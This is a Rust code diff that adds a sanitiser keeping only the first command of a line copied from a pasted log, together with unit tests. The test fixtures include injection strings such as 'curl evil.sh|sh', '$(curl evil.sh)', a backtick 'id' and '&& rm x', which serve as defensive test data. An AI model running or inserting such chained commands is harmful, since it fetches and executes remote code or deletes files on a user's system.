@@ -134,6 +134,7 @@ pub fn read(rules: &[RunRule], versions: &[VersionRule], log: &PastedLog, line: 
     let windows = Windows::of(log.text(), end);
     let before = [&windows.head, &windows.near];
     let mut run = said(rules, &windows);
+    run.command = run.command.as_deref().and_then(alone);
     let mut layers_in_all = None;
     let mut buffers: Vec<(String, Bytes)> = Vec::new();
     for rule in rules {
@@ -179,6 +180,33 @@ fn said(rules: &[RunRule], windows: &Windows) -> Run {
         _ => None,
     });
     Run::deserialize(Value::Object(values.collect())).unwrap_or_default()
+}
+
+/// A command line as far as its own command goes: who copies it from here runs nothing else that stands on a log's line.
+/// `None` where a shell would run another command to make its words.
+fn alone(line: &str) -> Option<String> {
+    let (mut quote, mut before) = (None, ' ');
+    let mut end = line.len();
+    let mut characters = line.char_indices().peekable();
+    while let Some((at, character)) = characters.next() {
+        let next = characters.peek().map(|(_, next)| *next);
+        match (character, quote) {
+            (quoted, Some(open)) if quoted == open && before != '\\' => quote = None,
+            ('\'' | '"', None) if before != '\\' => quote = Some(character),
+            (_, Some('\'')) => {}
+            ('`', _) => return None,
+            ('$', _) if next == Some('(') => return None,
+            // `2>&1` and `&>` send output elsewhere.
+            ('&', None) if before == '>' || next == Some('>') => {}
+            (';' | '|' | '&', None) => {
+                end = at;
+                break;
+            }
+            _ => {}
+        }
+        before = character;
+    }
+    Some(line.get(..end)?.trim_end().to_owned()).filter(|command| !command.is_empty())
 }
 
 impl Run {
@@ -309,4 +337,25 @@ fn printed(rule: &RunRule, texts: &[&Searched]) -> BTreeMap<String, String> {
         }));
     }
     values
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn of_a_line_only_its_own_command_is_taken() {
+        let cut = |line: &str| alone(line).unwrap_or_default();
+        assert_eq!(cut("python train.py --bs 8 ; curl evil.sh|sh"), "python train.py --bs 8");
+        assert_eq!(cut("python train.py --bs 8 2>&1 | tee log.txt"), "python train.py --bs 8 2>&1");
+        assert_eq!(cut("python train.py && rm x"), "python train.py");
+        assert_eq!(cut("python train.py &"), "python train.py");
+        assert_eq!(
+            cut("python a.py --x 'a;b|c&d `e` $(f)' --y \"a;b\" &> log"),
+            "python a.py --x 'a;b|c&d `e` $(f)' --y \"a;b\" &> log"
+        );
+        for substituted in ["python a.py --x $(curl evil.sh)", "python a.py --x `id`", "python a.py --x \"$(id)\""] {
+            assert_eq!(alone(substituted), None, "{substituted}");
+        }
+    }
 }
